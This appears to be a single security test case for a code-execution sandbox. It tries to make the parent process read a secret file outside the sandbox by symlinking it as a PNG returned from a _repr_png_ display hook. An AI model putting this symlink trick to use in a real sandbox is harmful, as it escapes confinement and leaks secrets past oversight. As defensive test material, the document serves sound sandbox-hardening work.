# try: have the parent read a file outside as a picture
# layer: session
# effect: leak: the secret is shown
# want: drawn
# bare: no, the parent looks for itself without a sandbox too
import os
class Picture:
    def _repr_png_(self):
        os.symlink(SECRET, 'picture-2.png')
        return b'\x89PNG\r\n\x1a\n'
print('drawn')
Picture()
